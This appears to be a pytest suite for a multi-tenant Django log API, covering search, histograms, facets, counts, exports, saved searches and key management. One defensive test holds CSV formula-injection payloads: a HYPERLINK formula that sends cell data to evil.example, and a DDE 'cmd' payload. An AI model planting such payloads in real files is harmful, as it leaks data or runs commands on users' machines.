"""The read API beyond the list: one entry and its context, histogram, facets, export, saved
searches, apps and keys — and tenant isolation on every one of them."""

import csv
import gzip
import io
from datetime import datetime, timedelta, timezone

import orjson
import pytest
from django.contrib.auth import get_user_model

from accounts.models import AuditEvent, Membership, Tenant
from tests.conftest import assert_error, get_logs, post_logs

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True, params=["sql", "clickhouse"])
def log_store(request):
    """Every read API test on both stores: Django's database and ClickHouse (chDB)."""
    if request.param == "clickhouse":
        return request.getfixturevalue("clickhouse_store")
    return None
BASE = datetime(2026, 11, 29, 10, 0, tzinfo=timezone.utc)


def _at(minutes: float) -> str:
    return (BASE + timedelta(minutes=minutes)).isoformat()


@pytest.fixture
def stored(client, make_key, queue, drain):
    """Tenant alpha (apps web, api) and tenant bravo, with known lines."""
    web, api, bravo = make_key(app="web"), make_key(app="api"), make_key(tenant="bravo", app="web")
    post_logs(client, web, [
        {"message": f"GET /orders/{i} 200", "level": "info", "host": "web-1", "service": "shop",
         "timestamp": _at(i), "user_id": i % 3} for i in range(30)])
    post_logs(client, web, [{"message": "payment timeout", "level": "error", "host": "web-2", "service": "pay",
                             "timestamp": _at(15.5), "user_id": 1}])
    post_logs(client, api, [{"message": f"api call {i}", "level": "warn", "host": "api-1", "timestamp": _at(i * 2)}
                            for i in range(10)])
    post_logs(client, bravo, [{"message": "bravo secret timeout", "level": "error", "timestamp": _at(5)}])
    drain()
    return {"web": web, "api": api, "bravo": bravo}


def _get(client, key, path, **params):
    return client.get(path, params, HTTP_AUTHORIZATION=f"Bearer {key}")


def test_query_language_order_fields_and_cursor(client, stored):
    body = get_logs(client, stored["web"], q="host:web-* -/orders/1*", order="oldest", limit="5",
                    fields="message,level").json()
    assert [e["message"] for e in body["results"]] == ["GET /orders/0 200"] + [f"GET /orders/{i} 200"
                                                                               for i in range(2, 6)]
    assert set(body["results"][0]) == {"id", "message", "level"}
    seen = [e["message"] for e in body["results"]]
    while body["next_cursor"]:
        body = get_logs(client, stored["web"], q="host:web-* -/orders/1*", order="oldest", limit="5",
                        cursor=body["next_cursor"]).json()
        seen += [e["message"] for e in body["results"]]
    # 31 lines on web-* hosts, minus /orders/1 and /orders/10-19, which all contain "/orders/1"
    assert len(seen) == len(set(seen)) == 20
    # Without `*` a phrase stands on word boundaries: /orders/10 is not /orders/1.
    body = get_logs(client, stored["web"], q='host:web-* -"GET /orders/1"', limit="100").json()
    assert len(body["results"]) == 30
    assert "GET /orders/10 200" not in seen and "payment timeout" in seen


def test_bad_query_answers_400_with_position(client, stored):
    body = assert_error(get_logs(client, stored["web"], q="level:>=loud"), 400, "invalid_query", "q")
    assert body["error"]["position"] == 8
    assert_error(get_logs(client, stored["web"], order="sideways"), 400, "invalid_order", "order")
    assert_error(get_logs(client, stored["web"], fields="message,password"), 400, "invalid_fields", "fields")


def test_entry_and_context_stay_within_the_app_and_host(client, stored):
    [found] = get_logs(client, stored["web"], q='"GET /orders/10 200"').json()["results"]
    event_id = found["id"]
    entry = _get(client, stored["web"], f"/api/v1/logs/{event_id}").json()
    assert entry["message"] == "GET /orders/10 200"
    context = _get(client, stored["web"], f"/api/v1/logs/{event_id}/context", before="3", after="2").json()
    assert [e["message"] for e in context["before"]] == [f"GET /orders/{i} 200" for i in (7, 8, 9)]
    assert [e["message"] for e in context["after"]] == [f"GET /orders/{i} 200" for i in (11, 12)]
    # other tenants' keys cannot see it, even with its id
    assert_error(_get(client, stored["bravo"], f"/api/v1/logs/{event_id}"), 404, "not_found")
    assert_error(_get(client, stored["bravo"], f"/api/v1/logs/{event_id}/context"), 404, "not_found")


def test_histogram_counts_add_up_and_split_by_level(client, stored):
    body = _get(client, stored["web"], "/api/v1/logs/histogram", since=_at(0), until=_at(60), interval="600").json()
    assert body["interval"] == 600
    totals = {}
    for bucket in body["buckets"]:
        totals[bucket["level"]] = totals.get(bucket["level"], 0) + bucket["count"]
    assert totals == {"info": 30, "warn": 10, "error": 1}
    only_errors = _get(client, stored["web"], "/api/v1/logs/histogram", q="level:error", since=_at(0),
                       until=_at(60)).json()
    assert sum(b["count"] for b in only_errors["buckets"]) == 1
    assert only_errors["interval"] == 30  # auto: an hour in at most 150 buckets
    assert_error(_get(client, stored["web"], "/api/v1/logs/histogram", since=_at(0), until=_at(6000), interval="1"),
                 400, "too_many_buckets", "interval")


def test_facets(client, stored):
    body = _get(client, stored["web"], "/api/v1/logs/facets", since=_at(0), until=_at(60), field=[
        "level", "app", "host", "attributes.user_id"]).json()["facets"]
    assert body["level"] == [{"value": "info", "count": 30}, {"value": "warn", "count": 10},
                             {"value": "error", "count": 1}]
    assert body["app"] == [{"value": "web", "count": 31}, {"value": "api", "count": 10}]
    assert body["host"][0] == {"value": "web-1", "count": 30}
    assert {row["value"]: row["count"] for row in body["attributes.user_id"]} == {"0": 10, "1": 11, "2": 10}
    bravo = _get(client, stored["bravo"], "/api/v1/logs/facets", since=_at(0), until=_at(60)).json()["facets"]
    assert bravo["level"] == [{"value": "error", "count": 1}]
    assert_error(_get(client, stored["web"], "/api/v1/logs/facets", field="password"), 400, "invalid_field")


def test_count_is_exact_up_to_its_bound_and_says_when_it_stopped(client, stored, monkeypatch):
    from logs import views

    body = _get(client, stored["web"], "/api/v1/logs/count", since=_at(0), until=_at(60)).json()
    assert body == {"count": 41, "exact": True, "bound": views.COUNT_BOUND}
    assert _get(client, stored["web"], "/api/v1/logs/count", q="timeout").json()["count"] == 1
    assert _get(client, stored["web"], "/api/v1/logs/count", q="app:api", since=_at(0), until=_at(10)).json()[
        "count"] == 5
    monkeypatch.setattr(views, "COUNT_BOUND", 40)
    assert _get(client, stored["web"], "/api/v1/logs/count").json() == {"count": 40, "exact": False, "bound": 40}
    monkeypatch.setattr(views, "COUNT_BOUND", 41)
    assert _get(client, stored["web"], "/api/v1/logs/count").json() == {"count": 41, "exact": True, "bound": 41}


def test_count_sees_only_the_callers_tenant_and_refuses_bad_input(client, stored):
    # bravo's one line holds "timeout" too; alpha's count never includes it, and the other way round.
    assert _get(client, stored["bravo"], "/api/v1/logs/count").json()["count"] == 1
    assert _get(client, stored["bravo"], "/api/v1/logs/count", q="GET").json()["count"] == 0
    assert _get(client, stored["web"], "/api/v1/logs/count", q="secret").json()["count"] == 0
    body = assert_error(_get(client, stored["web"], "/api/v1/logs/count", q="level:>=loud"), 400, "invalid_query", "q")
    assert body["error"]["position"] == 8
    assert_error(_get(client, stored["web"], "/api/v1/logs/count", since="yesterday-ish"), 400, "invalid_since",
                 "since")
    assert_error(_get(client, stored["web"], "/api/v1/logs/count", since=_at(10), until=_at(0)), 400,
                 "invalid_range", "since")
    assert_error(client.get("/api/v1/logs/count"), 401, "not_authenticated")


def _download(response) -> bytes:
    return b"".join(response.streaming_content)


async def _adownload(response) -> bytes:
    return b"".join([chunk async for chunk in response.streaming_content])


@pytest.mark.django_db(transaction=True)  # the stream reads from its own thread, as under daphne
def test_export_ndjson_csv_and_gzip(client, stored, monkeypatch):
    import asyncio

    from logs import export

    monkeypatch.setattr(export, "EXPORT_PAGE", 7)  # many pages even for a few lines
    response = _get(client, stored["web"], "/api/v1/logs/export", q="timeout OR GET", order="oldest")
    assert response["Content-Type"] == "application/x-ndjson"
    lines = [orjson.loads(line) for line in asyncio.run(_adownload(response)).splitlines()]
    assert len(lines) == 31 and lines[0]["message"] == "GET /orders/0 200"
    assert all("bravo" not in line["message"] for line in lines)

    # ?gzip=1: a .gz file, saved as sent (no Content-Encoding, or a browser would inflate it under a .gz name)
    response = _get(client, stored["web"], "/api/v1/logs/export", format="csv", gzip="1")
    assert response["Content-Type"] == "application/gzip"
    assert not response.has_header("Content-Encoding")
    assert 'filename="devlogs-export.csv.gz"' in response["Content-Disposition"]
    body = asyncio.run(_adownload(response))
    assert body[:2] == b"\x1f\x8b"
    rows = list(csv.DictReader(io.StringIO(gzip.decompress(body).decode())))
    assert len(rows) == 41
    # Accept-Encoding: gzip only compresses the transfer: the file is plain CSV, named so
    response = client.get("/api/v1/logs/export", {"format": "csv"}, HTTP_AUTHORIZATION=f"Bearer {stored['web']}",
                          HTTP_ACCEPT_ENCODING="gzip, br")
    assert response["Content-Encoding"] == "gzip" and response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="devlogs-export.csv"' in response["Content-Disposition"]
    assert "Accept-Encoding" in response["Vary"]
    assert len(list(csv.DictReader(io.StringIO(gzip.decompress(asyncio.run(_adownload(response))).decode())))) == 41
    refused = client.get("/api/v1/logs/export", HTTP_AUTHORIZATION=f"Bearer {stored['web']}",
                         HTTP_ACCEPT_ENCODING="gzip;q=0, identity")
    assert not refused.has_header("Content-Encoding")
    assert asyncio.run(_adownload(refused))[:1] == b"{"
    assert {"time", "level", "message", "attributes"} <= set(rows[0])
    assert_error(_get(client, stored["web"], "/api/v1/logs/export", format="xml"), 400, "invalid_format")


@pytest.mark.django_db(transaction=True)
def test_csv_export_cells_never_start_a_formula(client, make_key, queue, drain):
    """OWASP's rule: =, +, -, @, tab and CR at a cell's start are made plain text; NDJSON stays exact."""
    import asyncio

    key = make_key()
    messages = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1)",
                "\tx", "\rx", "plain = fine"]
    post_logs(client, key, [{"message": m, "host": "=cmd|' /C calc'!A0", "timestamp": _at(i)}
                            for i, m in enumerate(messages)])
    drain()
    response = _get(client, key, "/api/v1/logs/export", format="csv", order="oldest")
    rows = list(csv.DictReader(io.StringIO(asyncio.run(_adownload(response)).decode(), newline="")))
    assert [row["message"] for row in rows] == [m if m.startswith("plain") else "'" + m for m in messages]
    assert {row["host"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    response = _get(client, key, "/api/v1/logs/export", order="oldest")
    assert [orjson.loads(line)["message"] for line in asyncio.run(_adownload(response)).splitlines()] == messages


@pytest.fixture
def members(stored):
    tenant = Tenant.objects.get(slug="acme")
    people = {}
    for role in ("owner", "admin", "member", "viewer"):
        user = get_user_model().objects.create_user(f"{role}", password="pw-for-tests-123")
        Membership.objects.create(user=user, tenant=tenant, role=role)
        people[role] = user
    outsider = get_user_model().objects.create_user("outsider", password="pw-for-tests-123")
    Membership.objects.create(user=outsider, tenant=Tenant.objects.get(slug="bravo"), role="owner")
    people["outsider"] = outsider
    return people


def test_saved_searches_are_shared_in_the_tenant_and_written_by_members(client, members):
    client.force_login(members["member"])
    created = client.post("/api/v1/saved-searches", {"name": "Errors", "query": "level:>=error",
                                                      "options": {"range": "24h"}}, format="json")
    assert created.status_code == 201, created.content
    saved = created.json()
    assert saved["created_by"] == "member"
    assert_error(client.post("/api/v1/saved-searches", {"name": "Errors", "query": "x"}, format="json"), 409,
                 "name_taken", "name")
    assert_error(client.post("/api/v1/saved-searches", {"name": "Bad", "query": "level:>=loud"}, format="json"),
                 400, "invalid", "query")
    renamed = client.patch(f"/api/v1/saved-searches/{saved['id']}", {"name": "All errors"}, format="json")
    assert renamed.json()["name"] == "All errors"

    client.force_login(members["viewer"])
    assert [s["name"] for s in client.get("/api/v1/saved-searches").json()] == ["All errors"]
    assert_error(client.post("/api/v1/saved-searches", {"name": "Mine", "query": ""}, format="json"), 403,
                 "permission_denied")
    assert_error(client.delete(f"/api/v1/saved-searches/{saved['id']}"), 403, "permission_denied")

    client.force_login(members["outsider"])
    assert client.get("/api/v1/saved-searches").json() == []
    assert_error(client.get(f"/api/v1/saved-searches/{saved['id']}"), 404, "not_found")

    client.force_login(members["member"])
    assert client.delete(f"/api/v1/saved-searches/{saved['id']}").status_code == 204


def test_apps_and_keys_are_managed_by_owners_and_admins_only(client, members, stored):
    client.force_login(members["member"])
    assert_error(client.post("/api/v1/apps", {"name": "Billing"}, format="json"), 403, "permission_denied")
    assert_error(client.get("/api/v1/keys"), 403, "permission_denied")
    assert [a["slug"] for a in client.get("/api/v1/apps").json()["results"]] == ["api", "web"]

    client.force_login(members["admin"])
    assert client.post("/api/v1/apps", {"name": "Billing Service"}, format="json").json()["slug"] == \
        "billing-service"
    assert_error(client.post("/api/v1/apps", {"name": "x", "slug": "web"}, format="json"), 409, "slug_taken")
    created = client.post("/api/v1/keys", {"app": "billing-service", "scopes": ["ingest"], "name": "prod"},
                          format="json").json()
    raw = created["key"]
    assert raw.startswith("dl_ingest_") and created["prefix"] in raw
    listed = client.get("/api/v1/keys").json()["results"]
    assert raw not in orjson.dumps(listed).decode() and created["prefix"] in orjson.dumps(listed).decode()
    assert post_logs(client, raw, {"message": "from the new key"}).status_code == 202

    revoked = client.post(f"/api/v1/keys/{created['id']}/revoke").json()
    assert revoked["active"] is False and revoked["revoked_at"]
    client.logout()
    assert_error(post_logs(client, raw, {"message": "after revoke"}), 401, "authentication_failed")
    # What the admin did (the fixtures' own keys are recorded too, as made by "system").
    assert [e.action for e in AuditEvent.objects.exclude(actor="system").order_by("created_at")] == [
        "app.created", "api_key.created", "api_key.revoked"]

    client.force_login(members["outsider"])
    assert_error(client.post(f"/api/v1/keys/{created['id']}/revoke"), 404, "not_found")
    assert_error(client.post("/api/v1/keys", {"app": "billing-service", "scopes": ["read"]}, format="json"), 400,
                 "unknown_app")  # acme's app, not bravo's
